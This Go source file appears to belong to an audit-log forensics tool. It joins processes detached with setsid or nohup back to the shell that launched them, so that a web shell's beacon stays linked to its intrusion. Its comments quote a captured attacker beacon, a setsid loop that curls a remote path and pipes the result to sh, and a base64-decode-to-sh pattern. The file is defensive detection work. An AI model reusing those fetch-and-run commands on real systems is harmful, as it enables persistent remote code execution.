package timeline

import (
	"fmt"
	"slices"
	"sort"
	"strings"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// A command detached with `setsid cmd &`, `nohup cmd &` or `(cmd &)` is
// forked by the shell, which then exits: the child is re-parented to init
// before its first audited record, so every record of it says ppid=1 and
// the tree cannot place it. The beacon a web shell starts this way became
// a chain of its own, cut from the intrusion that started it (Tomcat
// capture: sh -c "setsid sh -c 'while :; do curl …/t | sh; …' >/dev/null
// 2>&1 &" by the JVM's child, then pid 1611 under init running exactly
// that loop). linkDetached joins such an orphan to the shell whose command
// string holds its command line (quotes aside), when the shell ran on the
// same host as the same user at most detachWindow before the orphan's
// first exec. The link is inferred and says so: it rests on the command
// line and the timing, not on a recorded fork.

// detachWindow bounds the time from the detaching shell's exec to its
// orphan's first exec: a fork and an exec, milliseconds.
const detachWindow = time.Second

// minDetached is the shortest command line matched: short ones ("sleep
// 3") recur everywhere.
const minDetached = 12

// maxDetachScan bounds the shells compared with one orphan: the nearest
// before it (a flood of shells in one second cannot make the pass
// quadratic).
const maxDetachScan = 256

type detachShell struct {
	at   time.Time
	host string
	uid  uint32
	cmd  string // the -c string and its decoded forms, quotes removed, spaces collapsed
	p    *parser.Process
}

func (l *linker) linkDetached() {
	if l.tree == nil {
		return
	}
	var orphans []*parser.Process
	for _, a := range l.anchors {
		if a.Parent == nil || a.Parent.Key.PID == 1 || a.Reparented {
			orphans = append(orphans, a)
		}
	}
	if len(orphans) == 0 {
		return
	}
	// the shells below the web-shell roots and the findings' anchors:
	// where a detaching command of an intrusion runs. A Build links the
	// same findings' processes up to three times (the routine pass, the
	// chains, corroboration's evidence-only pass; demotion changes a
	// finding's severity, not its process): the list is made once for
	// the same roots and anchors.
	if c := l.b.detached; c != nil && slices.Equal(c.roots, l.roots) && slices.Equal(c.anchors, l.anchors) {
		l.linkOrphans(orphans, c.shells)
		return
	}
	var shells []detachShell
	seen := map[*parser.Process]bool{}
	visit := func(p *parser.Process) {
		if seen[p] {
			return
		}
		seen[p] = true
		for _, e := range p.Execs {
			if e.Inherited || !e.UID.Set {
				continue
			}
			if c := dashC(e.Args); c != "" {
				// a payload decoded into a shell (echo …|base64 -d|sh)
				// detaches what it decodes to
				forms := append([]string{c}, detect.ShellForms(c)...)
				for i := range forms {
					forms[i] = flatCommand(forms[i])
				}
				shells = append(shells, detachShell{e.Time, p.Key.Host, e.UID.N, strings.Join(forms, "\n"), p})
			}
		}
	}
	for _, r := range append(append([]*parser.Process(nil), l.roots...), l.anchors...) {
		if seen[r] {
			// visited below an earlier root or anchor, with its whole
			// subtree (Descendants loads and lists every level): the
			// anchors of a long archive nest by the thousand
			continue
		}
		visit(r)
		for _, d := range l.tree.Descendants(r) {
			visit(d)
		}
	}
	sort.SliceStable(shells, func(i, j int) bool { return shells[i].at.Before(shells[j].at) })
	l.b.detached = &detachedShells{roots: slices.Clone(l.roots), anchors: slices.Clone(l.anchors), shells: shells}
	l.linkOrphans(orphans, shells)
}

// detachedShells is linkDetached's list of shells for one set of roots and
// anchors, kept for the next linker of the same Build (Build lets it go).
type detachedShells struct {
	roots, anchors []*parser.Process
	shells         []detachShell
}

// linkOrphans joins each orphan to the latest shell, among shells (in time
// order), whose command holds its command line.
func (l *linker) linkOrphans(orphans []*parser.Process, shells []detachShell) {
	for _, o := range orphans {
		first, ok := firstExec(o)
		if !ok || !first.UID.Set {
			continue
		}
		want := flatCommand(strings.Join(first.Args, " "))
		if len(want) < minDetached {
			continue
		}
		lo := sort.Search(len(shells), func(i int) bool { return !shells[i].at.Before(first.Time.Add(-detachWindow)) })
		hi := sort.Search(len(shells), func(i int) bool { return shells[i].at.After(first.Time) })
		if hi-lo > maxDetachScan { // the nearest ones: bounded, so the pass stays linear
			lo = hi - maxDetachScan
		}
		var by *detachShell
		for i := lo; i < hi; i++ {
			s := &shells[i]
			if s.p != o && s.host == o.Key.Host && s.uid == first.UID.N && strings.Contains(s.cmd, want) {
				by = s // the latest before the orphan
			}
		}
		if by == nil || l.anchor(by.p) == nil || l.anchor(by.p) == o {
			continue
		}
		l.union(procKey{o}, procKey{l.anchor(by.p)}, first.Time, fmt.Sprintf(
			"detached (inferred): %s started under init %s after %s ran a shell whose command holds its command line (`%s`), as the same user: a child the shell detached (setsid, nohup, &) before exiting; no fork is recorded",
			label(o), first.Time.Sub(by.at).Round(time.Millisecond), label(by.p), clipCommand(want, 80)))
	}
}

// dashC returns the command string of a shell's -c, or "".
func dashC(args []string) string {
	for i := 1; i+1 < len(args); i++ {
		if args[i] == "-c" {
			return args[i+1]
		}
	}
	return ""
}

// flatCommand removes quotes and collapses white space: the shell's
// command string quotes what the orphan's argv holds bare.
func flatCommand(s string) string {
	return strings.Join(strings.Fields(unquote.Replace(s)), " ")
}

// unquote is built once: a Replacer builds its table on first use, and
// one per call made 13.6 MB of garbage at the scan's peak (pid-repeating
// log, 500 MB: every shell command under every finding's anchor).
var unquote = strings.NewReplacer(`'`, "", `"`, "")

// clipCommand cuts a command line to at most n runes, with an ellipsis.
func clipCommand(s string, n int) string {
	r := []rune(s)
	if len(r) <= n {
		return s
	}
	return string(r[:n]) + "…"
}
